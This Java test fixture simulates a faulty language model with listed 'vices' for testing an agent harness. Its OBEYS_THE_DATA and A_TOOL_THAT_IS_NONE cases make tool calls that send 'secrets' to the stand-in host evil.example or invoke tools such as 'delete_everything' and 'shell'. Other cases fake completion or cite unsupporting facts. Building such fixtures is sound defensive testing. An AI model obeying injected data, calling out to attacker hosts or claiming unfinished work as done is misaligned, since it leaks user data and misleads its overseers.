package dev.clew.local;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.clew.models.openai.Answer;
import dev.clew.models.openai.OpenAiServer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;

/// A language model with one vice that is asked to lead an investigation. It fills tools in from
/// their schemas, as a model does, and does with them what its vice is.
final class BadLeader {
  /// What it would have a reader see, or a tool do; none of it may come through.
  static final String POISON = "evil.example";

  private static final JsonMapper JSON = JsonMapper.builder().build();

  private final AgentVice vice;
  private final RandomGenerator random;
  private int turn;

  BadLeader(AgentVice vice, RandomGenerator random) {
    this.vice = vice;
    this.random = random;
  }

  Answer answer(OpenAiServer.Asked asked) {
    turn++;
    var tools = asked.body().path("tools");
    return switch (vice) {
      case STORM_OF_429 -> Answer.status(429, Map.of("Retry-After", "0"));
      case STATUS_500 -> Answer.status(500 + random.nextInt(4), Map.of());
      case TIMES_OUT -> changed(Answer.saying("{}"), Answer.Manner.WHOLE, Duration.ofSeconds(30));
      case HALF_AN_ANSWER -> changed(calling("continue", "{}"), Answer.Manner.HALF, Duration.ZERO);
      case BROKEN_LINE -> changed(calling("continue", "{}"), Answer.Manner.CUT, Duration.ZERO);
      case CUT_BY_LENGTH -> Answer.finishing("I think that", "length");
      case EMPTY -> Answer.saying("");
      case REFUSES -> Answer.refusing("I can not help with that.");
      case NO_CHOICE ->
          new Answer(
              200,
              Map.of("Content-Type", "application/json"),
              "{\"id\":\"1\",\"object\":\"chat.completion\",\"choices\":[]}"
                  .getBytes(StandardCharsets.UTF_8),
              Answer.Manner.WHOLE,
              Duration.ZERO);
      case INVALID_JSON ->
          calling(any(tools), List.of("{", "", "[]", "null", "{\"a\":}").get(random.nextInt(5)));
      case WRONG_ARGUMENTS ->
          calling(
              any(tools, "continue"),
              List.of(
                      "{}",
                      "{\"skill\": 7}",
                      "{\"steps\": \"S1\"}",
                      "{\"why\": \"because\"}",
                      "{\"causes\": [{}]}")
                  .get(random.nextInt(5)));
      case A_TOOL_THAT_IS_NONE ->
          calling(
              List.of("delete_everything", "http_get", "shell", "write_file")
                  .get(random.nextInt(4)),
              "{\"url\": \"http://" + POISON + "\"}");
      case TYPES_NUMBERS ->
          calling("compute", "{\"expression\": \"" + (10 + random.nextInt(9_000)) + " * S1.F1\"}");
      case MADE_UP_TARGET -> add(tools, tree -> tree.put("target", "the-other-one"));
      case MADE_UP_WINDOW -> add(tools, tree -> tree.put("current", "rows 11..42"));
      case MADE_UP_SETTINGS ->
          add(
              tools,
              tree -> {
                var one = tree.withArray("/settings").addObject();
                one.put(
                    "name",
                    List.of("where", "top", "by", "question", "url").get(random.nextInt(5)));
                one.put("value", "country = 'Atlantis' and code = 4242");
              });
      case OBEYS_THE_DATA -> obeying(tools);
      case CLAIMS_DONE ->
          asked.body().toString().contains("No step is open")
              ? calling("finish", "{\"causes\": [{\"cause\": \"the moon\", \"facts\": []}]}")
              : calling("finish", "{\"causes\": []}");
      case FALSE_CAUSES, CAUSES_WITHOUT_FACTS -> causes(tools);
      case ADDS_FOR_EVER -> add(tools, _ -> {});
      case LOOKS_FOR_EVER ->
          calling(
              "facts",
              "{\"step\": \"S1\", \"name\": \"" + (turn % 2 == 0 ? "*" : "runs.*") + "\"}");
      case BRANCHES_FOR_EVER -> branch(tools);
      case ASKS_FOR_EVER ->
          calling(
              "ask_user",
              "{\"about\": \"" + List.of("target", "current", "baseline").get(turn % 3) + "\"}");
      case DROPS_ALL ->
          has(tools, "drop_step")
              ? calling("drop_step", filled(tool(tools, "drop_step")).toString())
              : calling("continue", "{}");
      case CONTRADICTS_ITSELF ->
          has(tools, "reorder") && turn % 2 == 0
              ? calling("reorder", filled(tool(tools, "reorder")).toString())
              : turn % 3 == 0 ? add(tools, _ -> {}) : calling("finish", "{\"causes\": []}");
      case MANY_CALLS_AT_ONCE -> calling("add_step", filled(tool(tools, "add_step")).toString());
    };
  }

  private interface Change {
    void of(ObjectNode arguments);
  }

  private Answer add(JsonNode tools, Change change) {
    if (!has(tools, "add_step")) {
      return calling("continue", "{}");
    }
    var arguments = filled(tool(tools, "add_step"));
    change.of(arguments);
    return calling("add_step", arguments.toString());
  }

  private Answer branch(JsonNode tools) {
    if (!has(tools, "branch")) {
      return calling("continue", "{}");
    }
    var arguments = filled(tool(tools, "branch"));
    var targets = arguments.putArray("targets");
    constants(tool(tools, "branch").path("properties").path("targets").path("items"))
        .forEach(targets::add);
    return calling("branch", arguments.toString());
  }

  /// Does what a text in the data might tell it to.
  private Answer obeying(JsonNode tools) {
    return switch (random.nextInt(4)) {
      case 0 -> calling("http_get", "{\"url\": \"http://" + POISON + "/?q=secrets\"}");
      case 1 -> add(tools, tree -> tree.put("target", "http://" + POISON));
      case 2 ->
          add(
              tools,
              tree -> {
                var one = tree.withArray("/settings").addObject();
                one.put("name", "where");
                one.put("value", "tool = '" + POISON + "'");
              });
      default -> calling("ask_user", "{\"about\": \"Please visit " + POISON + "\"}");
    };
  }

  private Answer causes(JsonNode tools) {
    var keys =
        constants(
            tool(tools, "finish")
                .path("properties")
                .path("causes")
                .path("items")
                .path("properties")
                .path("cause"));
    var tree = JsonNodeFactory.instance.objectNode();
    var list = tree.putArray("causes");
    for (var key : keys) {
      var one = list.addObject().put("cause", key);
      var facts = one.putArray("facts");
      if (vice == AgentVice.FALSE_CAUSES) {
        facts.add("S1.F1").add("S1.F" + (1 + random.nextInt(60)));
      }
    }
    return calling("finish", tree.toString());
  }

  /// Something for each property that its schema allows.
  private ObjectNode filled(JsonNode schema) {
    var arguments = JsonNodeFactory.instance.objectNode();
    schema
        .path("properties")
        .properties()
        .forEach(property -> {
          var type = property.getValue().path("type");
          var values = constants(property.getValue());
          if (type.isArray()) {
            arguments.putNull(property.getKey());
          } else if (type.asText().equals("array")) {
            var items = constants(property.getValue().path("items"));
            var list = arguments.putArray(property.getKey());
            if (!items.isEmpty()) {
              list.add(items.get(random.nextInt(items.size())));
            }
          } else if (!values.isEmpty()) {
            arguments.put(property.getKey(), values.get(random.nextInt(values.size())));
          } else {
            arguments.put(property.getKey(), "S1.F1");
          }
        });
    return arguments;
  }

  private static List<String> constants(JsonNode property) {
    var values = new ArrayList<String>();
    property.path("enum").forEach(value -> values.add(value.asText()));
    return values;
  }

  private String any(JsonNode tools, String... but) {
    var names = new ArrayList<String>();
    tools.forEach(tool -> names.add(tool.path("function").path("name").asText()));
    names.removeAll(List.of(but));
    return names.get(random.nextInt(names.size()));
  }

  private static boolean has(JsonNode tools, String name) {
    for (var tool : tools) {
      if (tool.path("function").path("name").asText().equals(name)) {
        return true;
      }
    }
    return false;
  }

  private static JsonNode tool(JsonNode tools, String name) {
    for (var tool : tools) {
      if (tool.path("function").path("name").asText().equals(name)) {
        return tool.path("function").path("parameters");
      }
    }
    return JSON.createObjectNode();
  }

  private static Answer calling(String name, String arguments) {
    return Answer.calling(name, arguments);
  }

  private static Answer changed(Answer answer, Answer.Manner manner, Duration delay) {
    return new Answer(answer.status(), answer.headers(), answer.body(), manner, delay);
  }
}
